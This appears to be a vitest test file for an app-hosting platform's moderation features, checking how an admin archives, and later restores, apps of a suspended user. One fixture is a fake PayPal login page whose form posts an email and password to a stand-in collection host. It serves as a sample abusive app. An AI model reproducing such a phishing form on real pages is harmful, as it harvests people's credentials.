/** What an admin archives of a person who is suspended, through HTTP, on each database. */
import { beforeAll, expect, test } from 'vitest'
import { draftApp, publishedApp } from '../../../server/testing/apps.ts'
import { Person, signedUp, signIn } from '../../../server/testing/people.ts'
import { onEachDatabase } from '../../../server/testing/test-server.ts'
import { readApp } from '../../apps/contract.ts'
import { publishApp } from '../../publishing/contract.ts'
import * as contract from '../contract.ts'

const reason = 'It copies another site'

onEachDatabase(
  'archiving apps of the suspended',
  (server) => {
    let rosa: Person
    let visitor: Person
    beforeAll(async () => {
      rosa = await signedUp(server(), 'rosa')
      visitor = new Person(server(), 'visitor')
    }, 60_000)
    const suspend = (userId: string) =>
      rosa.calls(contract.suspendUser, { userId, reason: 'Many complaints' })
    const lift = async (userId: string) => {
      await rosa.calls(contract.liftSuspension, { userId })
      await server().server.outbox.idle()
    }
    const archive = async (id: string) =>
      (await rosa.calls(contract.archiveApp, { id, reason })).status
    const site = async (url: string) => (await server().request(url)).status

    test('an app that is out of view with its author is archived, and stays so when the suspension is lifted, until an admin restores it [PERM-25] [PERM-31]', async () => {
      const fay = await signedUp(server(), 'fay')
      const [bad, good] = [await publishedApp(fay, 'fay-bad'), await publishedApp(fay, 'fay-good')]
      await suspend(fay.userId)
      expect(await archive(bad.id)).toBe(200)
      // Archived by an admin it is archived already.
      expect(await archive(bad.id)).toBe(409)
      await lift(fay.userId)
      await signIn(fay)
      const seen = async (id: string) => {
        const { status, rejectedReason } = (await fay.calls(readApp, { id })).body.app
        return [status, rejectedReason, (await visitor.calls(readApp, { id })).status]
      }
      expect([await seen(bad.id), await site(bad.url)]).toEqual([['archived', reason, 404], 410])
      expect([await seen(good.id), await site(good.url)]).toEqual([['published', null, 200], 200])
      await rosa.calls(contract.restoreApp, { id: bad.id })
      expect((await seen(bad.id))[0]).toBe('draft')
      expect((await fay.calls(publishApp, { id: bad.id })).status).toBe(200)
    })

    test('one that was rejected, or waits, is archived as of anybody; a draft is not there [PERM-25] [PERM-31]', async () => {
      const gil = await signedUp(server(), 'gil')
      const held =
        '<!doctype html><title>PayPal - Log in</title><h1>PayPal</h1><form action="https://collect.example/in" method="post"><input name="mail"><input type="password" name="key"></form>'
      const waits = await draftApp(gil, 'gil-waits', { 'index.html': held })
      await gil.calls(publishApp, { id: waits })
      const draft = await draftApp(gil, 'gil-draft', { 'index.html': 'x' })
      await suspend(gil.userId)
      expect([await archive(waits), await archive(draft)]).toEqual([200, 404])
      await lift(gil.userId)
      await signIn(gil)
      expect((await gil.calls(readApp, { id: waits })).body.app.status).toBe('archived')
    })
  },
  { env: { ADMINS: 'builtin:rosa' } },
)
